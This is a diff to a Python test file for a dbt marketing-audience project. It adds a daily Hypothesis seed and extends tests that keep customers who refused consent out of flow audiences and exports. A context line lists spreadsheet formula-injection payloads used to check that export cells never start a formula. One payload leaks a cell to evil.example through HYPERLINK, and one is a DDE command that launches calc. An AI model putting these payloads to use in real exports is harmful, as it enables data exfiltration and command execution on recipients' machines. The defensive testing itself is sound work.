@@ -20,16 +20,21 @@ from pathlib import Path
 import duckdb
 import pytest
 import yaml
-from conftest import DIRTY_VARS, MESSY_VARS, PROJECT_DIR, SEEDS_DIR, TODAY, Workspace, generate_demo
+from conftest import DIRTY_VARS, HYPOTHESIS_SEED, MESSY_VARS, PROJECT_DIR, SEEDS_DIR, TODAY, Workspace, generate_demo
 from engines import ENGINES, engine_workspace
-from hypothesis import HealthCheck, Phase, example, given, settings
+from hypothesis import HealthCheck, Phase, example, given, seed, settings
 from hypothesis import strategies as st
 from oracle import CUSTOMER_COLUMNS, ORDER_COLUMNS, Row, expected_rejects, normalise_email, parse_bool
 
 SCRIPTS = PROJECT_DIR / "scripts"
-# No shrinking: an example is a dbt run, and the failing input is printed as it is.
-PROPERTY = settings(max_examples=3, deadline=None, derandomize=True, phases=[Phase.explicit, Phase.generate],
-                    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
+# No shrinking: an example is a dbt run, and the failing input is printed as it is. A few examples a run, new
+# ones each day (the seed of conftest.HYPOTHESIS_SEED).
+PROPERTY_SETTINGS = settings(max_examples=3, deadline=None, database=None, phases=[Phase.explicit, Phase.generate],
+                             suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
+
+
+def PROPERTY(test):  # noqa: ANN001, ANN201, N802 (a hypothesis test, used as a decorator like settings)
+    return seed(HYPOTHESIS_SEED)(PROPERTY_SETTINGS(test))
 FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
             "-2+3", "\tx", "\rx")
 # Reproductions of the issue: refusals written with look-alike addresses or on rejected records.
@@ -127,6 +132,12 @@ def test_a_refusal_on_any_record_keeps_the_address_out_of_audiences_and_exports(
     assert exported and not exported & refused(HOSTILE_CUSTOMERS)
     manifest = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
     assert "never exported" in manifest["rules"]["consent"]
+
+    proc = run_script("export_audiences.py", "--segmentation", "flows", "--out", str(tmp_path),
+                      "--export-date", "2026-11-25", env=built.env)
+    assert proc.returncode == 0, proc.stderr
+    flow_exported = {row["email"].lstrip("'") for f in (tmp_path / "flows").glob("*.csv") for row in read_csv(f)}
+    assert not {normalise_email(email) for email in flow_exported} & refused(HOSTILE_CUSTOMERS)
 
 
 def test_export_cells_never_start_a_formula(built: Workspace, tmp_path: Path) -> None:
@@ -230,15 +241,20 @@ def engine_ws(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathF
 @given(customers=CONSENT_CUSTOMERS)
 def test_no_refused_address_is_ever_an_audience_member(engine_ws: Workspace, customers: list[Row]) -> None:
     """Random customers with variants of two addresses and every kind of consent, on accepted, duplicate
-    and rejected records: audience_members never holds an address any record refused (on each engine of
+    and rejected records: audience_members never holds an address any record refused, and a flow's audience
+    (treated or holdout) never has it consenting (on each engine of
     RFM_TEST_ENGINES: `bash scripts/test.sh postgres` runs it on PostgreSQL too)."""
     orders = [{"order_id": f"o{i}", "customer_id": f"c{i}", "ordered_at": "2026-06-01", "order_total": "10"}
               for i in range(1, 7)]
     engine_ws.load(orders, customers)
-    engine_ws.dbt("run", "--select", "+audience_members")
+    engine_ws.dbt("run", "--select", "+audience_members", "+campaign_flow_audience")
     members = {row["email"] for row in engine_ws.read_table("main", "audience_members")}
     assert not members & refused(customers), (members & refused(customers), customers)
     assert all(normalise_email(email) == email for email in members), members
+    # the flows' export sends only to consenting customers, holdout or not (export_audiences.MEMBERS_SQL)
+    flow_members = [row for row in engine_ws.read_table("main", "campaign_flow_audience")
+                    if normalise_email(row["email"]) in refused(customers)]
+    assert not any(row["accepts_marketing"] for row in flow_members), flow_members
 
 
 # ------------------------------------------------------------------------------------ property: amounts
